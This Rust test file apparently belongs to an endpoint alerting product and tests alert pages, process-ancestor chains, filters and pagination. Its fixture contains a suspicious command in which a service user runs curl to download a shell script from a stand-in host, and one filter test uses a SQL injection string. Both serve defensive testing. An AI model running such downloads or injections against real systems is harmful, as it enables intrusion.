//! Alerts: the list, one alert, its process's ancestors.

use control::ControlError;
use control::fixture::{Program, Scene, alert_on, process_fields, process_guid};
use control::limits::{ANCESTORS_MAX, DAY_NS, HOUR_NS, SECOND_NS};
use control::view::{AlertFilter, PAGE_ROWS_MAX, TimeRange};
use model::{AlertId, Clock, Event, EventKind, Level, Timestamp};
use std::collections::HashSet;

#[tokio::test]
async fn an_alert_explains_itself() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let page = scene.control.alert(&actor, scene.alert).await.expect("the alert");
    assert_eq!(page.device_name, "web-01");
    assert_eq!(page.alert.stream, scene.download);
    assert_eq!(page.alert.level, Level::High);
    assert_eq!(page.alert.why[0].value.as_deref(), Some("/usr/bin/curl"));
    assert_eq!(page.alert.fields.int("ProcessId"), Some(4010));
    assert!(page.alert.rule_text.contains("Image|endswith"));
    assert_eq!((page.rule_matches_30d, page.rule_devices_30d), (1, 1));

    let images: Vec<&str> = page.ancestors.iter().map(|node| node.image.as_str()).collect();
    let expected = ["/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/bash", "/usr/bin/curl"];
    assert_eq!(images, expected, "the oldest first");
    let curl = page.ancestors.last().expect("the process");
    assert_eq!(curl.command_line, "curl -s -o /tmp/100%_new.sh http://203.0.113.7/x.sh");
    assert_eq!((curl.process_id, curl.user.as_str()), (Some(4010), "www-data"));
    assert!(curl.exited_at.is_some_and(|at| at > curl.started_at));
    assert_eq!(page.ancestors[0].exited_at, None);

    let unknown = AlertId::from_bits(7);
    let outcome = scene.control.alert(&actor, unknown).await;
    assert!(matches!(outcome, Err(ControlError::NotFound { .. })));
}

fn start(scene: &mut Scene, at: Timestamp, program: &Program<'_>) -> Event {
    let fields = process_fields(scene.web.enrolled.device, program);
    scene.web.event(EventKind::ProcessStart, at, fields)
}

#[tokio::test]
async fn the_chain_of_ancestors_is_the_one_of_that_time() {
    let (_folder, mut scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let at = |second: i64| scene.clock.now().plus_nanos(-HOUR_NS + second * SECOND_NS);
    let times: Vec<Timestamp> = (0..10).map(at).collect();
    let program = |pid, parent, image| Program { pid, parent, image, arguments: &["x"] };
    // Process 10 execs twice; 20 is its child between the two, and matches after its own second exec.
    let mut events = vec![
        start(&mut scene, times[0], &program(10, 9, "/bin/first")),
        start(&mut scene, times[1], &program(20, 10, "/bin/child")),
        start(&mut scene, times[2], &program(20, 10, "/bin/child-again")),
        start(&mut scene, times[3], &program(10, 9, "/bin/second")),
    ];
    let late = alert_on(&events[2], "r", "Rule", Level::Medium);
    let early = alert_on(&events[1], "r", "Rule", Level::Medium);
    // The parent of 40 was first seen running after its child had started.
    events.push(start(&mut scene, times[4], &program(40, 30, "/bin/child-of-late")));
    events.push(start(&mut scene, times[5], &program(30, 9, "/bin/seen-late")));
    let seen_late = alert_on(&events[4], "r", "Rule", Level::Medium);
    // A forged record: its own grandparent.
    events.push(start(&mut scene, times[6], &program(50, 51, "/bin/a")));
    events.push(start(&mut scene, times[7], &program(51, 50, "/bin/b")));
    let forged = alert_on(&events[7], "r", "Rule", Level::Medium);
    // The process's own row is missing.
    let absent = start(&mut scene, times[8], &program(60, 10, "/bin/absent"));
    scene.web.next_seq -= 1;
    let file = process_fields(scene.web.enrolled.device, &program(60, 10, "/bin/absent"));
    let file = scene.web.event(EventKind::FileCreate, times[8], file);
    assert_eq!(absent.stream, file.stream);
    let absent = alert_on(&file, "r", "Rule", Level::Medium);
    events.push(file);
    let ids = [&late, &early, &seen_late, &forged, &absent].map(|alert| alert.id);
    scene.commit(events, vec![late, early, seen_late, forged, absent]).await.expect("committed");
    let expected: [&[&str]; 5] = [
        &["/bin/first", "/bin/child-again"],
        &["/bin/first", "/bin/child"],
        &["/bin/seen-late", "/bin/child-of-late"],
        &["/bin/a", "/bin/b"],
        &["/bin/second", "/bin/absent"],
    ];
    for (id, images) in ids.into_iter().zip(expected) {
        let page = scene.control.alert(&actor, id).await.expect("the alert");
        let found: Vec<&str> = page.ancestors.iter().map(|node| node.image.as_str()).collect();
        assert_eq!(found, images);
    }
}

#[tokio::test]
async fn a_long_chain_is_cut_and_another_devices_process_is_not_an_ancestor() {
    let (_folder, mut scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let begin = scene.clock.now().plus_nanos(-HOUR_NS);
    let mut events = Vec::new();
    for pid in 1..=20 {
        let program = Program { pid, parent: pid - 1, image: "/bin/deep", arguments: &["deep"] };
        events.push(start(&mut scene, begin.plus_nanos(pid), &program));
    }
    let deep = alert_on(events.last().expect("one"), "r", "Rule", Level::Low);
    // The other device claims to have the parent of this one's process.
    let mut foreign = process_fields(
        scene.web.enrolled.device,
        &Program { pid: 99, parent: 0, image: "/bin/foreign", arguments: &["x"] },
    );
    foreign.set("User", "root");
    let foreign = scene.db.event(EventKind::ProcessStart, begin, foreign);
    let child = Program { pid: 100, parent: 99, image: "/bin/child", arguments: &["x"] };
    let child = start(&mut scene, begin.plus_nanos(50), &child);
    let of_child = alert_on(&child, "r", "Rule", Level::Low);
    let (deep_id, child_id) = (deep.id, of_child.id);
    events.extend([foreign, child]);
    scene.commit(events, vec![deep, of_child]).await.expect("committed");
    let page = scene.control.alert(&actor, deep_id).await.expect("the alert");
    assert_eq!(page.ancestors.len(), ANCESTORS_MAX);
    let last = page.ancestors.last().expect("the process");
    assert_eq!(last.process_guid, process_guid(scene.web.enrolled.device, 20));
    let page = scene.control.alert(&actor, child_id).await.expect("the alert");
    assert_eq!(page.ancestors.len(), 1);
    assert_eq!((page.rule_matches_30d, page.rule_devices_30d), (2, 1));
}

#[tokio::test]
async fn filters() {
    let (_folder, scene) = scene!();
    let actor = scene.administrator().await.expect("signed in");
    let now = scene.clock.now();
    let range = |from, to| Some(TimeRange { from: now.plus_nanos(from), to: now.plus_nanos(to) });
    let all = AlertFilter::default();
    let cases = [
        (all.clone(), 2),
        (AlertFilter { level_min: Some(Level::Informational), ..all.clone() }, 2),
        (AlertFilter { level_min: Some(Level::Medium), ..all.clone() }, 1),
        (AlertFilter { level_min: Some(Level::Critical), ..all.clone() }, 0),
        (AlertFilter { device: Some(scene.web.enrolled.device), ..all.clone() }, 2),
        (AlertFilter { device: Some(scene.db.enrolled.device), ..all.clone() }, 0),
        (AlertFilter { rule_id: Some("curl-by-service-user".into()), ..all.clone() }, 1),
        (AlertFilter { rule_id: Some("' OR 1=1 --".into()), ..all.clone() }, 0),
        (AlertFilter { range: range(-HOUR_NS, 0), ..all.clone() }, 2),
        (AlertFilter { range: range(-DAY_NS, -HOUR_NS), ..all.clone() }, 0),
    ];
    for (filter, expected) in cases {
        let list = scene.control.alerts(&actor, &filter).await.expect("a list");
        assert_eq!((list.rows.len(), list.next), (expected, None), "{filter:?}");
    }
    let rows = scene.control.alerts(&actor, &all).await.expect("a list").rows;
    assert_eq!(rows[0].id, scene.alert, "the most severe of one event first");
    assert_eq!(rows[0].image.as_deref(), Some("/usr/bin/curl"));
    assert_eq!(rows[0].user.as_deref(), Some("www-data"));
    assert!(rows[0].command_line.as_deref().is_some_and(|text| text.starts_with("curl -s")));
}

#[tokio::test]
async fn pages_hold_every_alert_once_also_when_many_rules_match_one_event() {
    let (_folder, mut scene) = empty_scene!();
    let actor = scene.administrator().await.expect("signed in");
    let at = scene.clock.now().plus_nanos(-HOUR_NS);
    let program = Program { pid: 1, parent: 0, image: "/bin/x", arguments: &["x"] };
    let mut events = Vec::new();
    let mut alerts = Vec::new();
    // All at one instant; two events have three alerts each page must not split, one has more than a page.
    for number in 0..PAGE_ROWS_MAX {
        let event = start(&mut scene, at, &program);
        let rules = if number == 100 { PAGE_ROWS_MAX + 50 } else { 1 + number % 3 };
        for rule in 0..rules {
            alerts.push(alert_on(&event, &format!("rule-{rule}"), "Rule", Level::Medium));
        }
        events.push(event);
    }
    let expected: HashSet<AlertId> = alerts.iter().map(|alert| alert.id).collect();
    scene.commit(events, alerts).await.expect("committed");
    let mut filter = AlertFilter::default();
    let mut seen = HashSet::new();
    loop {
        let list = scene.control.alerts(&actor, &filter).await.expect("a list");
        let streams: HashSet<_> = list.rows.iter().map(|row| row.stream).collect();
        assert!(list.rows.len() <= PAGE_ROWS_MAX || streams.len() == 1);
        for row in &list.rows {
            assert!(seen.insert(row.id), "twice");
        }
        filter.after = list.next;
        if filter.after.is_none() {
            break;
        }
    }
    assert_eq!(seen, expected);
}
